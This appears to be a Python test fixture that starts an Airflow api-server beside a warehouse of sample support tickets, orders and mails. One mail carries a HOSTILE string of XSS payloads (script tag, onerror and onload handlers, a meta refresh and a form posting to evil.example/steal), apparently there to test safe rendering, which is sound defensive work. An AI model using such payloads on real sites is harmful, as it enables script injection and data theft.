"""Airflow's own api-server with the support pages, beside a warehouse with some tickets; no job runs."""

import json
import sys
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import yaml
from health_reports import document, land_health, rate
from landing import ORDER, land_some_mail, land_some_orders, let_pass, mail, named, order
from sqlalchemy import Connection, text

from amazon_support import settings as all_settings
from amazon_support import tickets
from amazon_support.local import LocalStack
from amazon_support.outputs.worklist import write_worklists
from amazon_support.tickets.compliance import write_compliance
from amazon_support.warehouse import connect
from amazon_support.warehouse.land import PUBLISH, publish_mail, publish_orders

NOW = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
TICKET = f"DE:order:{ORDER}"
UNDECIDED = f"-:mail:{named('odd')[:16]}"
HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
<form action="https://evil.example/steal"><input name=q></form><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>body { display: none }</style><svg onload="window.hacked = 1"><image href="https://evil.example/pixel.png"/></svg>"""
AGENTS = [
    {"name": "Ana Lima", "email": "ana@example.com", "marketplaces": ["DE"]},
    {"name": "Bo Berg", "email": "bo@example.com", "marketplaces": ["US"]},
]
USERS = {
    "ana": {"role": "agent", "agent": "Ana Lima"},
    "bo": {"role": "agent", "agent": "Bo Berg"},
    "lea": {"role": "lead"},
    "vic": {"role": "viewer"},
}


def ago(**span: float) -> datetime:
    return NOW - timedelta(**span)


@contextmanager
def desk(folder: Path, environment: Mapping[str, str]) -> Iterator[LocalStack]:
    """The running stack; it is stopped at the end.

    Args:
        environment: further variables of Airflow's processes, from the first one on.
    """
    (folder / "agents.yaml").write_text(yaml.safe_dump({"agents": AGENTS}))
    (folder / "access.yaml").write_text(yaml.safe_dump({"access": {"users": USERS}}))
    stack = LocalStack(folder / "stack", port=0)
    stack.add_environment({"AMAZON_SUPPORT_SETTINGS": str(folder), **environment})
    try:
        stack.prepare(print)
        with pytest.MonkeyPatch.context() as patch, connect(stack.warehouse_url) as connection:
            patch.setenv("AMAZON_SUPPORT_SETTINGS", str(folder))
            _fill(connection)
        stack.spawn("api-server", [sys.executable, "-m", "airflow", "api-server"], keep=True)
        stack.wait(lambda: _answers(stack), "Airflow's api-server", 240)
        yield stack
    finally:
        stack.stop()


def token(stack: LocalStack, user: str, password: str) -> str:
    """What Airflow's sign-in gives the user, for the cookie `_token` or as a bearer token."""
    login = {"username": user, "password": password}
    answer = httpx.post(f"{stack.airflow_url}/auth/token", json=login, timeout=60)
    return str(answer.raise_for_status().json()["access_token"])


def passwords(stack: LocalStack) -> dict[str, str]:
    """Those that Airflow's SimpleAuthManager made."""
    found: dict[str, str] = json.loads((stack.folder / "airflow" / "passwords.json").read_text())
    return found


def happened(stack: LocalStack) -> list[tuple[str, str]]:
    """What people did so far: (kind, actor)."""
    with connect(stack.warehouse_url) as connection:
        query = "select kind, actor from core.ticket_event where source = 'page' order by event_id"
        return [(row.kind, row.actor) for row in connection.execute(text(query))]


def _fill(connection: Connection) -> None:
    current = all_settings.load()
    seen = {"order_ids": [ORDER], "buyer_alias": "abc123@marketplace.amazon.de", "buyer_name": "Mia Muster"}
    land_some_orders(connection, order(lastUpdatedTime=f"{ago(hours=2):%Y-%m-%dT%H:%M:%SZ}"))
    land_some_mail(
        connection,
        mail("hostile", at=ago(hours=21), text=HOSTILE, subject="<b>Where?</b>", **seen),
        mail("odd", "unknown", at=ago(hours=5), marketplace=None, text="Something nobody understands"),
        mail("bo's", at=ago(hours=3), marketplace="US", case_id="77"),
        mail("old", at=ago(days=3), case_id="12"),
        mail("old answer", "reply_copy", at=ago(days=2, hours=20), case_id="12", order_ids=[]),
        mail("late", at=ago(days=4), case_id="13"),
        mail("case", "case_update", at=ago(hours=30), case_id="4711", subject="Reimbursement of a lost parcel"),
        mail("notice", "performance_notification", at=ago(hours=9), deadline=f"{ago(hours=-40):%Y-%m-%dT%H:%M:%SZ}"),
        mail("letter", "unknown", at=ago(hours=4), marketplace=None, subject="Rates", sender="news@carrier.example"),
    )
    for days, value, status in ((2, 0.01, "GOOD"), (1, 0.05, "BAD")):
        report = document(lateShipmentRate=rate(value, status=status), orderDefectRate={"afn": rate(0.002)})
        land_health(connection, report, at=ago(days=days))
    let_pass(connection)
    publish_orders(connection, current)
    publish_mail(connection, current)
    PUBLISH["account_health"](connection, current)
    tickets.fold(connection, current.policy, tickets.Promises.of(current))
    write_worklists(connection, current, as_of=NOW)
    write_compliance(connection, current, as_of=NOW)


def _answers(stack: LocalStack) -> bool:
    try:
        return httpx.get(f"{stack.airflow_url}/api/v2/version", timeout=5).is_success
    except httpx.HTTPError:
        return False
